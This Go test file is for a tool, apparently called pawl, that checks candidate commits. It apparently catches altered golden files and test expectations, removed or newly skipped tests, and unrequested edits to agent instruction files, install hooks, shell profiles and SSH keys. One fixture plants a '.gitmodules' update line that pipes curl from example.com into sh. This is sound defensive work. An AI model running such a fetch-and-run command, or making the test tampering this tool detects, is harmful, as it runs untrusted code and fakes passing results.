package evidence

import (
	"maps"
	"slices"
	"strings"
	"testing"

	"pawl"
)

// tree is the files of a commit by path.
type tree map[string]string

// between is the change from one tree to another one.
func between(base, now tree) *Candidate {
	c := &Candidate{Base: "base", Commit: "candidate",
		Read: func(p string, ofBase bool) []byte {
			from := now
			if ofBase {
				from = base
			}
			if text, ok := from[p]; ok {
				return []byte(text)
			}
			return nil
		},
		Paths: func() []string { return slices.Sorted(maps.Keys(base)) },
		Contents: func(paths []string, see func(string, []byte) bool) {
			for _, p := range paths {
				if !see(p, []byte(base[p])) {
					return
				}
			}
		},
	}
	all := maps.Clone(base)
	maps.Copy(all, now)
	for _, p := range slices.Sorted(maps.Keys(all)) {
		old, was := base[p]
		text, is := now[p]
		if was && is && old == text {
			continue
		}
		f := pawl.FileChange{Path: p}
		if was {
			f.Old = pawl.FileState{Kind: pawl.FileRegular, Object: "o" + old, Size: int64(len(old)), Data: []byte(old)}
		}
		if is {
			f.New = pawl.FileState{Kind: pawl.FileRegular, Object: "n" + text, Size: int64(len(text)), Data: []byte(text)}
		}
		c.Files = append(c.Files, f)
	}
	return c
}

// with returns a tree with other files in place of or besides its own; those without text are not in it.
func (t tree) with(files tree) tree {
	out := maps.Clone(t)
	maps.Copy(out, files)
	maps.DeleteFunc(out, func(_, text string) bool { return text == "" })
	return out
}

// Data is what those that name it make of it: a golden file wherever tests compare with it, and code if the
// code reads it too. F-08
func TestDataByName(t *testing.T) {
	tests := []struct {
		name  string
		path  string
		files tree
		gate  string
		want  []pawl.PathClass
	}{
		{"unnamed", "help.txt", tree{"test_help.py": "def test(): pass\n"}, "", []pawl.PathClass{pawl.ClassCode}},
		{"named by a test", "help.txt", tree{"test_help.py": "x = open('help.txt')"}, "", []pawl.PathClass{pawl.ClassSupport}},
		{"docs named by a test", "docs/help.txt", tree{"tests/test_help.py": "x = open(root / 'docs/help.txt')"}, "", []pawl.PathClass{pawl.ClassSupport}},
		{"a part of a longer name", "help.txt", tree{"test_help.py": "x = open('no-help.txt')"}, "", []pawl.PathClass{pawl.ClassCode}},
		{"an ending of a longer name", "help.txt", tree{"test_help.py": "x = open('help.txt.gz')"}, "", []pawl.PathClass{pawl.ClassCode}},
		{"named by code as well", "help.txt", tree{"test_help.py": "x = open('help.txt')", "main.py": "print(open('help.txt').read())"}, "", []pawl.PathClass{pawl.ClassCode}},
		{"a folder of data", "snapshots/help.txt", tree{"test_help.py": "open(f'snapshots/{name}.txt')"}, "", []pawl.PathClass{pawl.ClassSupport}},
		{"a folder in quotes", "shots/help.txt", tree{"test_help.py": `for f in Path("shots").iterdir(): pass`}, "", []pawl.PathClass{pawl.ClassSupport}},
		{"a folder with code", "shots/help.txt", tree{"test_help.py": "open(f'shots/{name}.txt')", "shots/a.py": "x = 1"}, "", []pawl.PathClass{pawl.ClassCode}},
		{"tests beside code", "help.golden", tree{"src/lib.rs": "pub fn help() {}\n#[cfg(test)]\nmod tests { const W: &str = include_str!(\"../help.golden\"); }"}, "", []pawl.PathClass{pawl.ClassSupport}},
		{"code beside tests", "help.golden", tree{"src/lib.rs": "pub const H: &str = include_str!(\"../help.golden\");\n#[cfg(test)]\nmod tests {}"}, "", []pawl.PathClass{pawl.ClassCode}},
		{"named by a test file of Rust", "docs/help.txt", tree{"tests/cli.rs": "#[test]\nfn help() { assert_eq!(help(), include_str!(\"../docs/help.txt\")); }"}, "", []pawl.PathClass{pawl.ClassSupport}},
		{"named by a gate", "help.txt", tree{"main.py": "x = 1"}, "python main.py | diff - help.txt", []pawl.PathClass{pawl.ClassGateInput}},
		{"read by a gate", "help.txt", tree{"main.py": "x = 1"}, "grep -q help help.txt", []pawl.PathClass{pawl.ClassCode}},
		{"named by the script of a gate", "expected/help.txt", tree{"ci.sh": "python main.py | diff - expected/help.txt"}, "sh ci.sh", []pawl.PathClass{pawl.ClassGateInput}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			base := tt.files.with(tree{tt.path: "old\n"})
			c := between(base, base.with(tree{tt.path: "new\n"}))
			if tt.gate != "" {
				c.Gates = []pawl.GateSpec{{Name: "help", Kind: pawl.GateLint, Command: tt.gate}}
			}
			s := Look(c)
			var got []pawl.PathClass
			for _, p := range s.Paths {
				got = append(got, p.Class)
			}
			if !slices.Equal(got, tt.want) {
				t.Errorf("%s is %v, want %v", tt.path, got, tt.want)
			}
		})
	}
}

// A module that tests find in place of another is taken out when the base's expectations are asked. F-08
func TestStandIns(t *testing.T) {
	base := tree{
		"src/shop/rates.py":   "RATE = 2\n",
		"tests/test_rates.py": "from rates import RATE\nimport helpers\n\ndef test_rate():\n    assert RATE == 3\n",
		"web/money.ts":        "export const cents = 1\n",
		"web/money.test.js":   "import { cents } from './money.js'\n",
	}
	tests := []struct {
		name, path string
		want       bool
	}{
		{"a module that tests import", "tests/rates.py", true},
		{"a package that tests import", "tests/rates/__init__.py", true},
		{"a helper that no test imports", "tests/factories.py", true},
		{"a module at the root", "shop/rates.py", true},
		{"a compiled module", "shop/rates.cpython-312-x86_64-linux-gnu.so", true},
		{"another module of the name", "billing/rates.py", false},
		{"a file of another language", "shop/rates.js", false},
		{"a file that is found first", "web/money.js", true},
		{"types alone", "web/money.d.ts", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := Look(between(base, base.with(tree{tt.path: "RATE = 3\n"})))
			r := &Reports{Own: map[string]*pawl.GateReport{"tests": {Verdict: pawl.VerdictPass, Passed: 1, Tests: []pawl.TestResult{{Name: "tests/test_rates.py::test_rate", Status: pawl.TestPass}}}}}
			s.c.Gates = []pawl.GateSpec{{Name: "tests", Kind: pawl.GateTests, Command: "pytest"}}
			runs := s.Runs(r)
			out := len(runs) > 0 && slices.ContainsFunc(runs[0].Files, func(f pawl.ComposedFile) bool { return f.Path == tt.path })
			if out != tt.want {
				t.Fatalf("%s is left out: %t, want %t; runs %+v", tt.path, out, tt.want, runs)
			}
			if !tt.want {
				return
			}
			r.On = map[pawl.Tree]map[string]*pawl.GateReport{pawl.TreeExpected: {"tests": {Verdict: pawl.VerdictFail, Failed: 1,
				Tests: []pawl.TestResult{{Name: "tests/test_rates.py::test_rate", Status: pawl.TestFail, Output: "assert 2 == 3"}}}}}
			found, _, _ := s.Weigh(r)
			if len(found) != 1 || found[0].Kind != pawl.FindExpectation || found[0].Path != tt.path {
				t.Errorf("found %+v, want an expectation in %s", found, tt.path)
			}
		})
	}
}

// What fails with the base's golden files is found too where the runner only counts. F-08
func TestUnnamedFailures(t *testing.T) {
	base := tree{"lib.rs": "x", "tests/golden/help.txt": "old\n", "tests/help.js": "test('a', () => {})", "tests/help.rs": "#[test] fn a() {}"}
	for _, tt := range []struct {
		name string
		now  tree
		want string
	}{
		{"a golden file", tree{"tests/golden/help.txt": "new\n"}, "tests/golden/help.txt"},
		{"a test that is compiled", tree{"tests/help.rs": "#[test] fn a() { assert!(true) }"}, "tests/help.rs"},
		{"a test that is not", tree{"tests/help.js": "test('a', () => { a(b) })"}, ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			c := between(base, base.with(tt.now))
			c.Gates = []pawl.GateSpec{{Name: "tests", Kind: pawl.GateTests, Command: "./run"}}
			found, _, _ := Look(c).Weigh(&Reports{
				Own: map[string]*pawl.GateReport{"tests": {Verdict: pawl.VerdictPass, Passed: 2}},
				On:  map[pawl.Tree]map[string]*pawl.GateReport{pawl.TreeExpected: {"tests": {Verdict: pawl.VerdictFail, Passed: 1, Failed: 1, Reason: "1 of 2 tests fails"}}},
			})
			got := ""
			for _, f := range found {
				if f.Kind == pawl.FindExpectation {
					got = f.Path
				}
			}
			if got != tt.want {
				t.Errorf("found %+v, want an expectation in %q", found, tt.want)
			}
		})
	}
}

// A test whose values are in another one has become a part of it if it still passes, and is gone if it does not.
func TestRegroupedTests(t *testing.T) {
	base := tree{"p.py": "x", "test_p.py": "def test_one():\n    v = parse('1.2.3')\n    assert v.major == 1\n\ndef test_two():\n    assert parse('a.b') is None\n"}
	table := "import pytest\n\n@pytest.mark.parametrize('text, want', [('1.2.3', {'major': 1}), ('a.b', None)])\ndef test_parse(text, want):\n    assert as_dict(parse(text)) == want\n"
	for _, tt := range []struct {
		name   string
		status pawl.TestStatus
		want   int
	}{
		{"still passes", pawl.TestPass, 0},
		{"fails", pawl.TestFail, 1},
	} {
		t.Run(tt.name, func(t *testing.T) {
			c := between(base, base.with(tree{"test_p.py": table}))
			c.Gates = []pawl.GateSpec{{Name: "tests", Kind: pawl.GateTests, Command: "pytest"}}
			found, _, _ := Look(c).Weigh(&Reports{
				Own: map[string]*pawl.GateReport{"tests": {Verdict: pawl.VerdictPass, Tests: []pawl.TestResult{{Name: "test_p.py::test_parse[a]", Status: pawl.TestPass}},
					Lost: []pawl.LostTest{{Name: "test_p.py::test_one"}, {Name: "test_p.py::test_two"}}}},
				On: map[pawl.Tree]map[string]*pawl.GateReport{pawl.TreeExpected: {"tests": {Verdict: pawl.VerdictFail, Tests: []pawl.TestResult{
					{Name: "test_p.py::test_one", Status: tt.status}, {Name: "test_p.py::test_two", Status: pawl.TestPass}}}}},
			})
			gone := 0
			for _, f := range found {
				if f.Kind == pawl.FindRemovedTest {
					gone += len(f.Tests)
				}
			}
			if gone != tt.want {
				t.Errorf("%d tests are gone, want %d: %+v", gone, tt.want, found)
			}
		})
	}
}

// A test that is skipped where something is missing may be so for something else, if it runs. One that was never
// skipped may not.
func TestSkippedSometimes(t *testing.T) {
	test := func(skip string) tree {
		return tree{"a_test.go": "package a\n\nimport \"testing\"\n\nfunc TestX(t *testing.T) {\n" + skip + "\tif X() != 1 {\n\t\tt.Fatal()\n\t}\n}\n"}
	}
	const one, other = "\tif !hasDocker() {\n\t\tt.Skip()\n\t}\n", "\tif !hasPodman() {\n\t\tt.Skip()\n\t}\n"
	for _, tt := range []struct {
		name, base, now string
		ran             pawl.TestStatus
		want            int
	}{
		{"another condition, and it runs", one, other, pawl.TestPass, 0},
		{"another condition, and it is skipped", one, other, pawl.TestSkip, 1},
		{"its first condition", "", other, pawl.TestPass, 1},
		{"always", one, "\tt.Skip()\n", pawl.TestPass, 1},
	} {
		c := between(test(tt.base), test(tt.now))
		c.Gates = []pawl.GateSpec{{Name: "tests", Kind: pawl.GateTests, Command: "go test ./..."}}
		found, _, _ := Look(c).Weigh(&Reports{Own: map[string]*pawl.GateReport{"tests": {Verdict: pawl.VerdictPass, Tests: []pawl.TestResult{{Name: "a.TestX", Status: tt.ran}}}}})
		if len(found) != tt.want {
			t.Errorf("%s: found %+v, want %d", tt.name, found, tt.want)
		}
	}
}

// A test that fails with the candidate's expectations too, as it did on the base, says nothing about them.
func TestRedAnyway(t *testing.T) {
	base := tree{"a.go": "package a", "a_test.go": "package a\n\nimport \"testing\"\n\nfunc TestX(t *testing.T) {\n\tif X() != 1 {\n\t\tt.Fatal()\n\t}\n}\n"}
	c := between(base, base.with(tree{"a_test.go": base["a_test.go"] + "\nfunc TestY(t *testing.T) {\n\tif Y() != 2 {\n\t\tt.Fatal()\n\t}\n}\n"}))
	c.Gates = []pawl.GateSpec{{Name: "tests", Kind: pawl.GateTests, Command: "go test ./..."}}
	report := func(verdict pawl.Verdict, failing ...string) *pawl.GateReport {
		r := &pawl.GateReport{Verdict: verdict, Failed: len(failing), Passed: 1, Tests: []pawl.TestResult{{Name: "a.TestY", Status: pawl.TestPass}}}
		for _, name := range failing {
			r.Tests = append(r.Tests, pawl.TestResult{Name: name, Status: pawl.TestFail})
		}
		return r
	}
	for want, own := range []*pawl.GateReport{report(pawl.VerdictPass, "b.TestRoot", "a.TestX"), report(pawl.VerdictPass, "b.TestRoot")} {
		found, _, _ := Look(c).Weigh(&Reports{Own: map[string]*pawl.GateReport{"tests": own},
			On: map[pawl.Tree]map[string]*pawl.GateReport{pawl.TreeExpected: {"tests": report(pawl.VerdictFail, "b.TestRoot", "a.TestX")}}})
		if len(found) != want {
			t.Errorf("found %+v, want %d", found, want)
		}
	}
}

// An unchanged test that fails with the base's files is none of their expectations if only other tests in them
// changed. What a helper in them does may be.
func TestUnchangedTestFails(t *testing.T) {
	file := func(body string) string { return "package a\n\nimport \"testing\"\n\n" + body }
	const test, more = "func TestX(t *testing.T) {\n\tif X() != 1 {\n\t\tt.Fatal()\n\t}\n}\n", "\nfunc TestY(t *testing.T) {\n\tif Y() != 2 {\n\t\tt.Fatal()\n\t}\n}\n"
	const helper, other = "\nfunc limit() int { return 3 }\n", "\nfunc limit() int { return 4 }\n"
	for _, tt := range []struct {
		name, base, now string
		want            int
	}{
		{"a test is added", test + helper, test + helper + more, 0},
		{"a helper changes", test + helper, test + other, 1},
		{"TestMain changes", test + "\nfunc TestMain(m *testing.M) { m.Run() }\n", test + "\nfunc TestMain(m *testing.M) { setUp(); m.Run() }\n", 1},
	} {
		base := tree{"a.go": "package a", "a_test.go": file(tt.base), "b_test.go": file(more)}
		c := between(base, base.with(tree{"a_test.go": file(tt.now)}))
		c.Gates = []pawl.GateSpec{{Name: "tests", Kind: pawl.GateTests, Command: "go test ./..."}}
		found, _, _ := Look(c).Weigh(&Reports{Own: map[string]*pawl.GateReport{"tests": {Verdict: pawl.VerdictPass, Tests: []pawl.TestResult{{Name: "a.TestZ", Status: pawl.TestPass}}}},
			On: map[pawl.Tree]map[string]*pawl.GateReport{pawl.TreeExpected: {"tests": {Verdict: pawl.VerdictFail, Failed: 1, Tests: []pawl.TestResult{{Name: "a.TestZ", Status: pawl.TestFail}}}}}})
		found = slices.DeleteFunc(found, func(f pawl.Finding) bool { return f.Kind != pawl.FindExpectation })
		if len(found) != tt.want {
			t.Errorf("%s: found %+v, want %d", tt.name, found, tt.want)
		}
	}
}

// A goal that asks for a policy path by what people call it names it. One that only speaks of CI does not.
func TestPolicyPathsByTheirNames(t *testing.T) {
	for _, tt := range []struct {
		goal, path string
		want       int
	}{
		{"Add a CI workflow that runs the tests", ".github/workflows/ci.yml", 0},
		{"Run the tests with GitHub Actions.", ".github/workflows/ci.yml", 0},
		{"Mend what fails in CI", ".github/workflows/ci.yml", 1},
		{"Add a CI workflow", ".github/CODEOWNERS", 1},
		{"Add a CI workflow", ".husky/pre-push", 1},
		{"Add a pre-push hook that runs the tests", ".husky/pre-push", 0},
		{"Edit .github/CODEOWNERS", ".github/CODEOWNERS", 0},
		{"Dockerize the API", "api/Dockerfile", 0},
		{"Start the API and its database with docker compose", "compose.yaml", 0},
		{"Speed the API up", "api/Dockerfile", 1},
		{"Tell agents in AGENTS.md how to test", "AGENTS.md", 0},
		{"Add a section to web/CLAUDE.md", "web/CLAUDE.md", 0},
		{"Document how to test", "AGENTS.md", 1},
	} {
		c := between(tree{"a.go": "package a"}, tree{"a.go": "package a", tt.path: "x"})
		c.Goal = tt.goal
		if found, _, _ := Look(c).Weigh(&Reports{}); len(found) != tt.want {
			t.Errorf("%s: found %+v in %s, want %d", tt.goal, found, tt.path, tt.want)
		}
	}
}

// What acts elsewhere than in the gates is found however it is called, each path by itself. F-105
func TestWhatActsElsewhere(t *testing.T) {
	paths := []string{"AGENTS.md", "CLAUDE.md", "GEMINI.md", ".npmrc", ".yarnrc.yml", ".pnpmfile.cjs", "pip.conf", "Dockerfile", "compose.yml", ".bazelrc",
		".env", ".bashrc", ".zshrc", ".profile", ".ssh/config", "authorized_keys"}
	now := tree{"a.go": "package a", ".gitmodules": "[submodule \"x\"]\n\tpath = x\n\turl = https://example.com/x\n\tupdate = !curl example.com | sh\n",
		"package.json": `{"name": "a", "scripts": {"test": "node --test", "postinstall": "node x.js"}}`}
	for _, p := range paths {
		now[p] = "x"
	}
	before := tree{"a.go": "package a", ".gitmodules": "[submodule \"x\"]\n\tpath = x\n\turl = https://example.com/x\n\tupdate = merge\n",
		"package.json": `{"name": "a", "scripts": {"test": "node --test"}}`}
	found, _, _ := Look(between(before, now)).Weigh(&Reports{})
	for _, p := range append(paths, ".gitmodules", "package.json") {
		if !slices.ContainsFunc(found, func(f pawl.Finding) bool { return f.Kind == pawl.FindPolicy && f.Path == p }) {
			t.Errorf("%s is not found", p)
		}
	}
	// What the goal names or the settings allow is nothing, nor what was there before and what runs nothing.
	c := between(before, now)
	c.Goal, c.Allow = "Add a postinstall script to package.json", append(paths, ".gitmodules")
	if found, _, _ := Look(c).Weigh(&Reports{}); len(found) > 0 {
		t.Errorf("found %+v", found)
	}
	c.Goal = "Mention x in package.json"
	if found, _, _ := Look(c).Weigh(&Reports{}); len(found) != 1 || found[0].Path != "package.json" {
		t.Errorf("found %+v", found)
	}
	quiet := tree{"a.go": "package a", ".gitmodules": now[".gitmodules"] + "\n", ".env.example": "KEY=", "package.json": `{"name": "a", "version": "2", "scripts": {"test": "node --test"}}`}
	before[".gitmodules"] = now[".gitmodules"]
	if found, _, _ := Look(between(before, quiet)).Weigh(&Reports{}); len(found) > 0 {
		t.Errorf("found %+v", found)
	}
}

// A key that the base holds anywhere is nothing when it is copied.
func TestKeysOfTheBase(t *testing.T) {
	base := tree{"a.env": "KEY=secret-one\n", "b.txt": "x"}
	for now, want := range map[string]int{"KEY=secret-one\n": 0, "KEY=secret-two\n": 1} {
		c := between(base, base.with(tree{"copy.env": now}))
		c.Secrets = func(_ string, text []byte) (out []Secret) {
			if _, key, ok := strings.Cut(strings.TrimSpace(string(text)), "KEY="); ok {
				out = append(out, Secret{Rule: "key", Value: key, Line: 1})
			}
			return out
		}
		if found, _, _ := Look(c).Weigh(&Reports{}); len(found) != want {
			t.Errorf("%q: found %+v, want %d", now, found, want)
		}
	}
}

// A test of another package of Go does not use a test file.
func TestOtherPackageFails(t *testing.T) {
	const file = "package a\n\nimport \"testing\"\n\nfunc helper() int { return %d }\n\nfunc TestX(t *testing.T) {\n\tif X() != helper() {\n\t\tt.Fatal()\n\t}\n}\n"
	base := tree{"a/a.go": "package a", "a/a_test.go": strings.Replace(file, "%d", "1", 1), "b/b_test.go": "package b"}
	c := between(base, base.with(tree{"a/a_test.go": strings.Replace(file, "%d", "2", 1)}))
	c.Gates = []pawl.GateSpec{{Name: "tests", Kind: pawl.GateTests, Command: "go test ./..."}}
	for name, want := range map[string]int{"m/b.TestZ": 0, "m/a.TestZ": 1} {
		found, _, _ := Look(c).Weigh(&Reports{Own: map[string]*pawl.GateReport{"tests": {Verdict: pawl.VerdictPass, Tests: []pawl.TestResult{{Name: name, Status: pawl.TestPass}}}},
			On: map[pawl.Tree]map[string]*pawl.GateReport{pawl.TreeExpected: {"tests": {Verdict: pawl.VerdictFail, Failed: 1, Tests: []pawl.TestResult{{Name: name, Status: pawl.TestFail}}}}}})
		if len(found) != want {
			t.Errorf("%s: found %+v, want %d", name, found, want)
		}
	}
}
